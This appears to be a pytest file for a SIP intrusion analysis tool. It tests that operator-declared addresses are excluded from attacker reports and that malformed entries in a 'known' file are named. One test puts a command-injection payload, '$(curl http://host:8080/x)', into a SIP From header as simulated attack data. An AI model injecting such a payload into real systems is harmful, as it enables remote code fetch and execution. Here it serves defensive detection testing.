"""Addresses that the operator declared."""

from __future__ import annotations

from datetime import UTC
from pathlib import Path

import pytest
from test_judgement import ATTACKER, SHELL, STRANGER

from sipsieve_analysis.analysis import analyze
from sipsieve_analysis.attribution.known import KnownError, read
from sipsieve_analysis.events import Store
from sipsieve_analysis.intake import Collector
from worlds.field import Field
from worlds.programs import SIPVICIOUS
from worlds.world import START, World


@pytest.mark.parametrize(("kind", "tier"), [("scanner", "low"), ("carrier", "immediate")])
def test_nothing_is_held_against_a_declared_address(kind: str, tier: str, tmp_path: Path) -> None:
    world = World(1)
    field = Field(world)
    for n in range(60):
        field.ask(START + n, ATTACKER, SIPVICIOUS, "REGISTER", str(100 + n))
        field.ask(START + n, STRANGER, SIPVICIOUS, "REGISTER", str(100 + n))
    world.send(START + 90, ATTACKER, "INVITE", user="100", from_=SHELL, status=404)
    (tmp_path / "known").write_text(f"# ours\n{ATTACKER}/32 {kind} Audit\n")
    store = Store(tmp_path)
    try:
        collector = Collector(store, tmp_path, UTC)
        collector.add(world.write(tmp_path / "decisions.jsonl"))
        report = analyze(store, collector.intake, read(tmp_path / "known"))
    finally:
        store.close()
    assert {ip for actor in report.actors for ip in actor.addresses} == {STRANGER}
    mine = next(actor for actor in report.actors if ATTACKER in actor.victims)
    assert (mine.rank.tier, mine.note) == (tier, f"declared as known: {kind} Audit")
    assert ATTACKER not in {sighting.indicator.value for sighting in report.indicators}


def test_an_address_of_ours_in_a_payload_is_no_indicator(tmp_path: Path) -> None:
    world = World(1)
    for n, host in enumerate(("198.51.100.9", "203.0.113.77")):
        payload = f'"$(curl http://{host}:8080/x)" <sip:a@example.com>'
        world.send(START + n, ATTACKER, "INVITE", user="100", from_=payload, status=404)
    (tmp_path / "known").write_text("203.0.113.64/26 carrier Ours\n")
    store = Store(tmp_path)
    try:
        collector = Collector(store, tmp_path, UTC)
        collector.add(world.write(tmp_path / "decisions.jsonl"))
        report = analyze(store, collector.intake, read(tmp_path / "known"))
    finally:
        store.close()
    found = {(sighting.how, sighting.indicator.value) for sighting in report.indicators}
    assert any("198.51.100.9" in value for _, value in found)
    assert not [value for _, value in found if "203.0.113.77" in value]
    assert all("payload" in how for how, value in found if "198.51.100.9" in value)


@pytest.mark.parametrize(
    ("text", "says"), [("x scanner a", "no address"), ("\n192.0.2.1 friend", "line 2: 'friend' is none of scanner")]
)
def test_a_bad_line_is_named(text: str, says: str, tmp_path: Path) -> None:
    (tmp_path / "known").write_text(text)
    with pytest.raises(KnownError, match=says):
        read(tmp_path / "known")
